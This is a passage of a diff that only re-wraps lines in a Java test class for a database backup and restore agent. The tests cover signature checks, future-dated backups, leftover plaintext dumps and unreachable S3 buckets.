     Files.delete(databaseOut);
     Run named = restore(publicKeyRestore("team-20991231T235959Z", databaseOut, false));
     assertThat(named.code()).isEqualTo(1);
-    assertThat(named.summary().path("error").asText()).contains("team-20991231T235959Z is dated in the future");
+    assertThat(named.summary().path("error").asText())
+        .contains("team-20991231T235959Z is dated in the future");
     assertThat(databaseOut).doesNotExist();
     // within the allowed clock skew a backup is not "in the future"
-    RestoreAgent skewed = new RestoreAgent(() -> client, BackupAgent.Destinations.DEFAULT,
-        AgentFixtures.at("2025-01-05T01:57:00Z"));
-    assertThat(skewed.execute(publicKeyRestore("latest", databaseOut, false), null, new AgentFixtures.Out().writer))
+    RestoreAgent skewed = new RestoreAgent(
+        () -> client, BackupAgent.Destinations.DEFAULT, AgentFixtures.at("2025-01-05T01:57:00Z"));
+    assertThat(skewed.execute(
+            publicKeyRestore("latest", databaseOut, false), null, new AgentFixtures.Out().writer))
         .isZero();
   }
 
@@ -499,32 +717,53 @@ class BackupRestoreAgentTest {
 
     Run latest = restore(publicKeyRestore("latest", databaseOut, false));
     assertThat(latest.code()).isEqualTo(1);
-    assertThat(latest.summary().path("error").asText()).contains("no complete backup of stack team", "is signed");
+    assertThat(latest.summary().path("error").asText())
+        .contains("no complete backup of stack team", "is signed");
     Run latestAllowed = restore(publicKeyRestore("latest", databaseOut, true));
-    assertThat(latestAllowed.summary().path("error").asText()).contains("--allow-unsigned needs a backup named");
+    assertThat(latestAllowed.summary().path("error").asText())
+        .contains("--allow-unsigned needs a backup named");
 
     Run named = restore(publicKeyRestore("team-20250101T020000Z", databaseOut, true));
     assertThat(named.code()).as(named.line()).isZero();
     assertThat(named.summary().path("unsigned").asBoolean()).isTrue();
     assertThat(named.summary().has("signedBy")).isFalse();
     assertThat(Files.readAllBytes(databaseOut)).isEqualTo(old);
-    assertThat(LOGS.messages()).anySatisfy(m -> assertThat(m).contains("restoring an UNSIGNED backup"));
+    assertThat(LOGS.messages())
+        .anySatisfy(m -> assertThat(m).contains("restoring an UNSIGNED backup"));
   }
 
   @Test
   void aRestoreFailingAfterItWroteTheDumpLeavesNoPlaintextDump() throws Exception {
-    Run b = backup("2025-01-05T02:00:00Z", backupOptions(dump(10_000), false, Retention.Policy.DEFAULT));
+    Run b = backup(
+        "2025-01-05T02:00:00Z", backupOptions(dump(10_000), false, Retention.Policy.DEFAULT));
     assertThat(b.code()).as(b.line()).isZero();
     Path out = tmp.resolve("restored.dump");
-    // the credentials step comes after the dump is written: a Secret that is not there fails the run then
-    RestoreAgent.Options o = new RestoreAgent.Options(STACK, "latest", backups, null, null, passphraseFile, scratch, out,
-        null, "loomio", "no-such-secret", List.of("SECRET_KEY_BASE"), false, verificationKey, false);
+    // the credentials step comes after the dump is written: a Secret that is not there fails the
+    // run then
+    RestoreAgent.Options o = new RestoreAgent.Options(
+        STACK,
+        "latest",
+        backups,
+        null,
+        null,
+        passphraseFile,
+        scratch,
+        out,
+        null,
+        "loomio",
+        "no-such-secret",
+        List.of("SECRET_KEY_BASE"),
+        false,
+        verificationKey,
+        false);
     Run r = restore(o);
     assertThat(r.code()).as(r.line()).isEqualTo(1);
-    assertThat(r.summary().path("error").asText()).contains("Secret loomio/no-such-secret not found");
+    assertThat(r.summary().path("error").asText())
+        .contains("Secret loomio/no-such-secret not found");
     assertThat(out).as("the pod fails, pg_restore never runs: the dump goes").doesNotExist();
     try (Stream<Path> left = Files.list(tmp)) {
-      assertThat(left.map(p -> p.getFileName().toString())).noneMatch(n -> n.contains("restored.dump"));
+      assertThat(left.map(p -> p.getFileName().toString()))
+          .noneMatch(n -> n.contains("restored.dump"));
     }
     assertEmpty(scratch);
   }
@@ -539,20 +778,63 @@ class BackupRestoreAgentTest {
 
     Path empty = Files.write(tmp.resolve("empty.dump"), new byte[0]);
     assertThat(backup("2025-01-05T02:00:00Z", backupOptions(empty, false, Retention.Policy.DEFAULT))
-        .summary().path("error").asText()).contains("is empty");
+            .summary()
+            .path("error")
+            .asText())
+        .contains("is empty");
     Path text = Files.writeString(tmp.resolve("text.dump"), "pg_dump: error: connection refused");
     assertThat(backup("2025-01-05T02:00:00Z", backupOptions(text, false, Retention.Policy.DEFAULT))
-        .summary().path("error").asText()).contains("not a pg_dump custom-format archive");
+            .summary()
+            .path("error")
+            .asText())
+        .contains("not a pg_dump custom-format archive");
 
-    BackupAgent.Options both = new BackupAgent.Options(STACK, dump(1000), null, null, passphraseFile, passphraseFile,
-        backups, null, Retention.Policy.DEFAULT, null, null, null, scratch, signingKey);
-    assertThat(backup("2025-01-05T02:00:00Z", both).summary().path("error").asText()).contains("exactly one of");
+    BackupAgent.Options both = new BackupAgent.Options(
+        STACK,
+        dump(1000),
+        null,
+        null,
+        passphraseFile,
+        passphraseFile,
+        backups,
+        null,
+        Retention.Policy.DEFAULT,
+        null,
+        null,
+        null,
+        scratch,
+        signingKey);
+    assertThat(backup("2025-01-05T02:00:00Z", both).summary().path("error").asText())
+        .contains("exactly one of");
 
     // an unreachable bucket: the run fails, nothing is complete anywhere, no plaintext is left
     Path dump = dump(1000);
-    BackupAgent.Options unreachable = new BackupAgent.Options(STACK, dump, null, null, null, passphraseFile, backups,
-        new S3Destination.Settings(s3.endpoint(), "no-such-bucket", "", null, true, null, null, S3Server.ACCESS_KEY,
-            S3Server.SECRET_KEY, null, s3.caFile()), Retention.Policy.DEFAULT, null, null, null, scratch, signingKey);
+    BackupAgent.Options unreachable = new BackupAgent.Options(
+        STACK,
+        dump,
+        null,
+        null,
+        null,
+        passphraseFile,
+        backups,
+        new S3Destination.Settings(
+            s3.endpoint(),
+            "no-such-bucket",
+            "",
+            null,
+            true,
+            null,
+            null,
+            S3Server.ACCESS_KEY,
+            S3Server.SECRET_KEY,
+            null,
+            s3.caFile()),
+        Retention.Policy.DEFAULT,
+        null,
+        null,
+        null,
+        scratch,
+        signingKey);
     Run u = backup("2025-01-05T03:00:00Z", unreachable);
     assertThat(u.code()).isEqualTo(1);
     assertThat(u.summary().path("backup").asText()).isEqualTo("team-20250105T030000Z");
@@ -572,11 +854,20 @@ class BackupRestoreAgentTest {
     logger.addAppender(appender);
     logger.setLevel(Level.DEBUG);
     try {
-      Run b = backup("2025-01-05T02:00:00Z", backupOptions(dump(1000), true, Retention.Policy.DEFAULT));
+      Run b =
+          backup("2025-01-05T02:00:00Z", backupOptions(dump(1000), true, Retention.Policy.DEFAULT));
       assertThat(b.code()).isZero();
-      client.secrets().inNamespace("loomio").resource(new SecretBuilder().withNewMetadata().withName("team-credentials")
-          .endMetadata().build()).create();
-      Run r = restore(restoreOptions("latest", true, tmp.resolve("db.out"), null, List.of("SECRET_KEY_BASE")));
+      client
+          .secrets()
+          .inNamespace("loomio")
+          .resource(new SecretBuilder()
+              .withNewMetadata()
+              .withName("team-credentials")
+              .endMetadata()
+              .build())
+          .create();
+      Run r = restore(
+          restoreOptions("latest", true, tmp.resolve("db.out"), null, List.of("SECRET_KEY_BASE")));
       assertThat(r.code()).as(r.line()).isZero();
       List<String> printed = new ArrayList<>(List.of(b.line(), r.line()));
       appender.list.forEach(e -> printed.add(e.getFormattedMessage()));
